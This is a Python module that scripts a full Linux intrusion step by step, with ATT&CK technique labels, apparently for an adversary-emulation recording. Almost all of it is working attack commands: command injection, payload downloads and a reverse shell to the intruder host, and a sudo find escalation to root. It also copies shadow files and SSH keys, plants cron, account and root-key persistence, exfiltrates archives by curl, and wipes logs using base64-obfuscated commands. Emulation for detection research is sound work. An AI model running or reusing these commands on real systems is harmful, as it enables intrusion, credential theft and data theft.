"""The steps of the intrusion: how, what, and the ATT&CK technique each command stands for.

How: `request` goes through the vulnerable page, `shell` does too and brings a reverse shell back,
`type` is typed into that shell, `login` is an ssh session from the intruder's address.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

PASSWORD = "Quarry-64"
ACCOUNT = "svc-index"
INTRUDER = "10.20.9.66"
HIDE = "/dev/shm/.font-cache"
DEPOT = "http://10.20.9.66:8000"
CRON_COMMAND = "/usr/local/lib/index/refresh"


@dataclass(frozen=True)
class Step:
    name: str
    tactic: str
    words: str
    acts: tuple[tuple[str, str, str], ...]


def hidden(command: str) -> str:
    return f"echo {base64.b64encode(command.encode()).decode()} | base64 -d | bash"


MAIN = [
    Step(
        "initial access",
        "TA0001",
        "The ping page of the status application hands its argument to a shell; the intruder tries it.",
        (
            ("request", "id", "T1190"),
            ("request", "uname -a; cat /etc/os-release | head -3", "T1190"),
            ("request", "pwd; ls -la", "T1190"),
            ("request", "which curl wget python3 nc perl", "T1190"),
        ),
    ),
    Step(
        "tool transfer",
        "TA0011",
        "A second stage is fetched into a hidden folder in shared memory and made executable.",
        (
            ("request", f"mkdir -p {HIDE}", "T1564.001"),
            ("request", f"curl -s {DEPOT}/connect.py -o {HIDE}/connect.py; ls -la {HIDE}", "T1105"),
            ("request", f"curl -s {DEPOT}/survey.sh -o {HIDE}/survey.sh", "T1105"),
            ("request", f"chmod +x {HIDE}/survey.sh {HIDE}/connect.py", "T1222.002"),
        ),
    ),
    Step(
        "command and control",
        "TA0011",
        "The second stage opens a reverse shell to the intruder, which is turned into a terminal.",
        (
            ("shell", f"setsid python3 {HIDE}/connect.py 10.20.9.66 4444 >/dev/null 2>&1 &", "T1059.006"),
            ("type", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "T1059.006"),
            ("type", "export TERM=dumb HISTFILE=/dev/null", "T1070.003"),
        ),
    ),
    Step(
        "discovery",
        "TA0007",
        "The intruder looks at the machine, its accounts, processes and network.",
        (
            ("type", "whoami; id", "T1033"),
            ("type", "uname -a; cat /proc/version", "T1082"),
            ("type", "cat /etc/passwd", "T1087.001"),
            ("type", "ps aux", "T1057"),
            ("type", "ss -tulpn", "T1049"),
            ("type", "ip a; ip route; cat /etc/hosts", "T1016"),
            ("type", f"{HIDE}/survey.sh > {HIDE}/s.txt; wc -l {HIDE}/s.txt", "T1059.004"),
            ("type", "ls -la /home /srv /var/backups /opt", "T1083"),
            ("type", "find / -xdev -perm -4000 -type f 2>/dev/null", "T1083"),
            ("type", "getent group sudo adm share", "T1069.001"),
        ),
    ),
    Step(
        "privilege escalation",
        "TA0004",
        "A sudo rule lets the page's account run find with any arguments: -exec gives a root shell.",
        (
            ("type", "sudo -n -l", "T1548.003"),
            ("type", "sudo -n find /srv/status/cache -maxdepth 0 -exec id \\;", "T1548.003"),
            ("type", "sudo -n find /srv/status/cache -maxdepth 0 -exec /bin/bash \\;", "T1548.003"),
            ("type", "id; cd /root", "T1033"),
        ),
    ),
    Step(
        "credential access",
        "TA0006",
        "Password hashes are copied; keys, histories and settings are searched for secrets.",
        (
            ("type", f"cp /etc/shadow {HIDE}/a; cut -d: -f1,2 /etc/shadow | grep -v ':[!*]'", "T1003.008"),
            ("type", "grep -rniE 'password|token|secret' /srv/status /etc/cron.d /opt 2>/dev/null | head", "T1552.001"),
            ("type", "find /home /root -name 'id_*' -o -name '*.pem' -o -name '.git-credentials'", "T1552.004"),
            ("type", "cat /home/*/.bash_history | grep -E 'ssh|scp|passw' | tail", "T1552.003"),
            ("type", f"cp /home/mlind/.ssh/id_ed25519 {HIDE}/k; chmod 600 {HIDE}/k", "T1552.004"),
        ),
    ),
    Step(
        "persistence",
        "TA0003",
        "A cron job, a local account that may use sudo, and a key for root.",
        (
            (
                "type",
                f"mkdir -p /usr/local/lib/index; curl -s {DEPOT}/refresh.sh -o {CRON_COMMAND}; "
                f"chmod 755 {CRON_COMMAND}",
                "T1105",
            ),
            ("type", f"echo '* * * * * root {CRON_COMMAND}' > /etc/cron.d/index", "T1053.003"),
            ("type", f"useradd -m -r -d /var/lib/index -s /bin/bash -c 'index service' {ACCOUNT}", "T1136.001"),
            ("type", f"echo {ACCOUNT}:{PASSWORD} | chpasswd; usermod -aG sudo {ACCOUNT}", "T1098.007"),
            ("type", f"curl -s {DEPOT}/key.pub >> /root/.ssh/authorized_keys", "T1098.004"),
        ),
    ),
    Step(
        "lateral movement",
        "TA0008",
        "With the developer's stolen key the intruder logs on to the deployment account.",
        (
            (
                "type",
                f"ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i {HIDE}/k deploy@10.20.7.7",
                "T1021.004",
            ),
            ("type", "id; ls -la ~ ~/releases", "T1083"),
            ("type", "crontab -l; sudo -n -l", "T1069.001"),
            ("type", "exit", "T1021.004"),
        ),
    ),
    Step(
        "collection",
        "TA0009",
        "Documents and contracts are gathered into one archive.",
        (
            ("type", "find /srv/share -type f | wc -l; ls -la /srv/share/contracts | head -5", "T1083"),
            ("type", f"mkdir {HIDE}/d; cp -r /srv/share/contracts /srv/share/finance {HIDE}/d/", "T1005"),
            ("type", f"tar -C {HIDE} -czf {HIDE}/d.tgz d a; ls -l {HIDE}/d.tgz", "T1560.001"),
        ),
    ),
    Step(
        "exfiltration",
        "TA0010",
        "The archive is sent to the intruder in two ways: as a form over HTTP and encoded in base64.",
        (
            ("type", f"curl -s -F f=@{HIDE}/d.tgz http://10.20.9.66:8443/up", "T1048.003"),
            (
                "type",
                f"head -c 3000 {HIDE}/d.tgz | base64 -w0 | curl -s --data-binary @- http://10.20.9.66:8443/b",
                "T1048.003",
            ),
        ),
    ),
    Step(
        "defence evasion",
        "TA0005",
        "Times are set back, log lines and tools removed, commands hidden in base64.",
        (
            ("type", f"touch -r /etc/crontab /etc/cron.d/index; touch -r /usr/bin/cut {CRON_COMMAND}", "T1070.006"),
            ("type", "sed -i '/10.20.9.66/d' /srv/status/log/access.log", "T1070.002"),
            (
                "type",
                hidden(f"grep -v {ACCOUNT} /var/log/auth.log > {HIDE}/l; cat {HIDE}/l > /var/log/auth.log; id -un"),
                "T1027.010",
            ),
            ("type", f"rm -rf {HIDE}/d {HIDE}/d.tgz {HIDE}/a {HIDE}/l {HIDE}/s.txt {HIDE}/survey.sh", "T1070.004"),
            ("type", "history -c", "T1070.003"),
            ("type", f"shred -u {HIDE}/k {HIDE}/connect.py; rmdir {HIDE}", "T1070.004"),
            ("type", "exit", "T1059.004"),
            ("type", "exit", "T1059.004"),
            ("type", "exit", "T1059.004"),
        ),
    ),
]

FIRED = Step(
    "persistence at work", "TA0011", "The intruder's cron job calls home every minute until the recording ends.", ()
)

RETURN = [
    Step(
        "return",
        "TA0003",
        "Later the intruder logs on from outside with the account made before and looks who is there.",
        (
            ("login", f"{ACCOUNT} {PASSWORD}", "T1078.003"),
            ("type", "w; last -n 3", "T1033"),
            ("type", "sudo id", "T1548.003"),
            ("type", "sudo tail -n 5 /var/log/auth.log", "T1654"),
            ("type", "exit", "T1078.003"),
        ),
    ),
]

FIRED_TECHNIQUE = {"cron": "T1053.003", "beacon": "T1071.001"}
NUMBERED = [*MAIN, FIRED, *RETURN]  # a step's number is its place here, from 1

TACTICS = {
    "T1190": "TA0001",
    "T1059.004": "TA0002",
    "T1059.006": "TA0002",
    "T1564.001": "TA0005",
    "T1105": "TA0011",
    "T1222.002": "TA0005",
    "T1070.003": "TA0005",
    "T1033": "TA0007",
    "T1082": "TA0007",
    "T1087.001": "TA0007",
    "T1057": "TA0007",
    "T1049": "TA0007",
    "T1016": "TA0007",
    "T1083": "TA0007",
    "T1069.001": "TA0007",
    "T1548.003": "TA0004",
    "T1003.008": "TA0006",
    "T1552.001": "TA0006",
    "T1552.003": "TA0006",
    "T1552.004": "TA0006",
    "T1053.003": "TA0003",
    "T1136.001": "TA0003",
    "T1098.007": "TA0003",
    "T1098.004": "TA0003",
    "T1021.004": "TA0008",
    "T1005": "TA0009",
    "T1560.001": "TA0009",
    "T1048.003": "TA0010",
    "T1070.006": "TA0005",
    "T1070.002": "TA0005",
    "T1027.010": "TA0005",
    "T1070.004": "TA0005",
    "T1078.003": "TA0003",
    "T1654": "TA0007",
    "T1071.001": "TA0011",
}
